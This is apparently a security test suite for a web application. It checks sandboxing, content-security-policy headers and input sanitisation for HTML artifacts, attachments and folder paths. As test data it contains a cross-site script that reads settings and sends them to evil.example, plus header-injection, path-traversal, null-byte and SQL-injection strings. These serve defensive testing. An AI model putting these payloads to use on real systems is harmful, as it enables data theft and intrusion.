import { ArtifactView } from '@boocode/contracts/artifact';
import { Attachment } from '@boocode/contracts/message';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { doorWithStore, type TestDoor } from '../testing/door.js';

let test: TestDoor;
beforeAll(async () => {
  test = await doorWithStore();
});
afterAll(() => test.close());

const script =
  '<script>fetch("/api/settings").then((r) => r.text()).then((t) => { location = "https://evil.example/?" + t })</script>';

function directivesOf(headers: Record<string, unknown>): Map<string, string> {
  const parts = String(headers['content-security-policy']).split('; ');
  return new Map(parts.map((part) => [part.split(' ', 1)[0] ?? '', part.slice(part.indexOf(' ') + 1)]));
}

async function attach(name: string, content: string | Buffer) {
  const reply = await test.ask({
    method: 'POST',
    url: `/api/attachments?name=${encodeURIComponent(name)}`,
    headers: { 'content-type': 'text/html' },
    payload: content,
  });
  const attachment = Attachment.parse(reply.json());
  return { attachment, served: await test.ask({ url: `/api/attachments/${attachment.id}` }) };
}

async function pageOf(content: string, query = '') {
  const made = await test.ask({
    method: 'POST',
    url: '/api/artifacts',
    payload: { kind: 'html', title: 'Page', content },
  });
  return test.ask({ url: `/api/artifacts/${ArtifactView.parse(made.json()).id}/page${query}` });
}

describe('an HTML artifact', () => {
  it.each([
    ['', 'sandbox', null],
    ['?scripts=run', 'allow-scripts', "'unsafe-inline'"],
  ])(
    'is served as written, in a sandbox without origin, network, forms or a way out: "%s"',
    async (query, sandbox, scripts) => {
      const page = await pageOf(script, query);
      expect(page.body).toBe(script);
      expect(page.headers['content-type']).toBe('text/html; charset=utf-8');
      const directives = directivesOf(page.headers);
      // Without a script there is no WebRTC, which no policy forbids.
      expect(directives.get('sandbox')).toBe(sandbox);
      expect(directives.get('script-src') ?? null).toBe(scripts);
      expect(directives.get('default-src')).toBe("'none'");
      expect(directives.get('form-action')).toBe("'none'");
      expect(directives.get('base-uri')).toBe("'none'");
      for (const fetched of ['connect-src', 'frame-src', 'worker-src', 'media-src', 'object-src', 'manifest-src']) {
        expect(directives.has(fetched), fetched).toBe(false);
      }
      expect(directives.get('img-src')).toBe('data:');
      expect(directives.get('font-src')).toBe('data:');
      expect(String(page.headers['content-security-policy'])).not.toMatch(
        /https?:|\*|'self'(?!$)|allow-same-origin|allow-top/,
      );
    },
  );

  it('is framed by our own page alone, which lets no frame leave this door', async () => {
    const page = await pageOf('<p>Hello</p>');
    expect(directivesOf(page.headers).get('frame-ancestors')).toBe("'self'");
    expect(page.headers['x-frame-options']).toBe('SAMEORIGIN');
    const door = await test.ask({ url: '/' });
    expect(directivesOf(door.headers).get('frame-src')).toBe("'self'");
    expect(directivesOf(door.headers).get('frame-ancestors')).toBe("'none'");
    expect(door.headers['x-frame-options']).toBe('DENY');
  });

  it('has no origin, so that what it asks for is refused as from another site', async () => {
    const headers = { origin: 'null', 'sec-fetch-site': 'cross-site', 'sec-fetch-mode': 'cors' };
    const change = await test.ask({ method: 'PATCH', url: '/api/settings', headers, payload: { web: true } });
    expect(change.statusCode).toBe(403);
    expect((await test.ask({ url: '/api/settings', headers })).statusCode).toBe(403);
  });

  it('is told as JSON, never as a page, at its own address', async () => {
    const reply = await test.ask({
      method: 'POST',
      url: '/api/artifacts',
      payload: { kind: 'html', title: script, content: script },
    });
    expect(reply.headers['content-type']).toBe('application/json; charset=utf-8');
    expect(reply.headers['x-content-type-options']).toBe('nosniff');
  });
});

it('our own page runs no script and applies no sheet that was slipped into it, and reaches no other site', async () => {
  const { headers } = await test.ask({ url: '/' });
  const directives = directivesOf(headers);
  for (const name of [
    'default-src',
    'script-src',
    'style-src',
    'connect-src',
    'worker-src',
    'manifest-src',
    'frame-src',
  ]) {
    expect([name, directives.get(name)]).toEqual([name, "'self'"]);
  }
  expect(directives.get('object-src')).toBe("'none'");
  expect(directives.get('base-uri')).toBe("'none'");
  expect(directives.get('img-src')).toBe("'self' data:");
  const loose = [...directives].filter(([, sources]) => /unsafe|\*|https?:/.test(sources)).map(([name]) => name);
  expect(loose).toEqual(['style-src-attr']);
});

describe('an attachment', () => {
  it.each([
    ['page.html', script],
    ['picture.svg', `<svg xmlns="http://www.w3.org/2000/svg">${script}</svg>`],
    ['picture.png', script],
    ['mixed.html', Buffer.concat([Buffer.from(script), Buffer.from([0, 0xff])])],
  ])('that carries a script is a download of plain text or bytes: %s', async (name, content) => {
    const { served } = await attach(name, content);
    expect(String(served.headers['content-type'])).toMatch(/^(text\/plain; charset=utf-8|application\/octet-stream)$/);
    expect(served.headers['content-disposition']).toMatch(/^attachment; filename=/);
    expect(served.headers['x-content-type-options']).toBe('nosniff');
    expect(directivesOf(served.headers).has('sandbox')).toBe(true);
    expect(directivesOf(served.headers).get('default-src')).toBe("'none'");
  });

  it('that begins like an image and goes on as a page is an image, and inert when opened', async () => {
    const { served } = await attach('picture.html', Buffer.concat([Buffer.from('GIF89a'), Buffer.from(script)]));
    expect(served.headers['content-type']).toBe('image/gif');
    expect(served.headers['x-content-type-options']).toBe('nosniff');
    expect(directivesOf(served.headers).has('sandbox')).toBe(true);
  });

  it.each([
    ['a\r\nset-cookie: boocode_session=x\r\n\r\n<script>', 'aset-cookie: boocode_session=x<script>'],
    ['"; filename="evil.html', '"; filename="evil.html'],
    ['../../../etc/passwd', 'passwd'],
    ['..\\..\\boot.ini', 'boot.ini'],
    ['Rechnung für Ann – 世界.txt', 'Rechnung für Ann – 世界.txt'],
    ['report\u202Etxt.exe', 'reporttxt.exe'],
  ])('called %j adds no header and names no folder', async (given, kept) => {
    const { attachment, served } = await attach(given, 'text');
    expect(attachment.name).toBe(kept);
    expect(served.headers['set-cookie']).toBeUndefined();
    const disposition = String(served.headers['content-disposition']);
    expect(disposition).toMatch(/^attachment; filename=[\x20-\x7e\xa0-\xff]+$/);
    expect(disposition).not.toMatch(/\.\.|%2f|%5c/i);
    expect(disposition.replaceAll(/"(\\.|[^"\\])*"/g, '').match(/filename=/g)).toHaveLength(1);
    expect(nameIn(disposition)).toBe(kept);
  });
});

/** As browsers read it: the extended name before the plain one. */
function nameIn(disposition: string): string | undefined {
  const extended = /filename\*=UTF-8''(\S+)/.exec(disposition)?.[1];
  if (extended !== undefined) return decodeURIComponent(extended);
  const quoted = /filename="((?:\\.|[^"\\])*)"/.exec(disposition)?.[1];
  return quoted?.replaceAll(/\\(.)/g, '$1') ?? /filename=(\S+)/.exec(disposition)?.[1];
}

describe('a path that leads elsewhere', () => {
  it.each([
    ['path=..%2f..%2fetc', 400, 'folder.not-absolute'],
    ['path=etc', 400, 'folder.not-absolute'],
    [`path=%2f${'x'.repeat(5_000)}`, 400, 'folder.too-long'],
    [`path=%2f${'x'.repeat(300)}`, 400, 'folder.too-long'],
    ['path=%2fetc%2fpasswd', 422, 'folder.not-a-folder'],
    ['path=%2fetc%2fpasswd%2f..', 422, 'folder.not-a-folder'],
    ['path=%2fno%2fsuch%2ffolder', 404, 'folder.missing'],
    ['path=file:%2f%2f%2fetc', 400, 'folder.not-absolute'],
  ])('is no folder to list, and the answer says why: %.40s', async (query, status, code) => {
    const reply = await test.ask({ url: `/api/folders?${query}` });
    expect([reply.statusCode, reply.json()]).toMatchObject([status, { code, message: expect.stringMatching(/\.$/) }]);
  });

  it.each(['../package.json', 'etc', '/etc\0', '/no/such/folder', '/etc/passwd', `/${'x'.repeat(5_000)}`])(
    'is no project: %.40s',
    async (path) => {
      const reply = await test.ask({ method: 'POST', url: '/api/projects', payload: { path } });
      expect(reply.statusCode).toBeGreaterThanOrEqual(400);
      expect(reply.statusCode).toBeLessThan(500);
      expect(await test.sql`select path from projects`).toEqual([]);
    },
  );

  it.each(['..%2f..%2fetc%2fpasswd', '%2e%2e', '00000000-0000-7000-8000-000000000001%2f..', "x' or 1=1 --"])(
    'is no artifact, page or attachment: %s',
    async (id) => {
      for (const url of [`/api/artifacts/${id}`, `/api/artifacts/${id}/page`, `/api/attachments/${id}`]) {
        const reply = await test.ask({ url: encodeURI(url).replaceAll('%25', '%') });
        expect([400, 404], url).toContain(reply.statusCode);
      }
    },
  );
});

it('a character that cannot be kept is refused in words, wherever it stands', async () => {
  const bad = { agent: 'a\0b' };
  const reply = await test.ask({ method: 'PATCH', url: '/api/settings', payload: bad });
  expect([reply.statusCode, reply.json()]).toMatchObject([400, { code: 'request.invalid' }]);
  expect((await test.ask({ url: '/api/folders?path=%2fetc%00%2ftmp' })).json()).toMatchObject({
    code: 'request.invalid',
  });
  const named = { path: '/', name: 'a\0b' };
  expect((await test.ask({ method: 'POST', url: '/api/projects', payload: named })).statusCode).toBe(400);
});
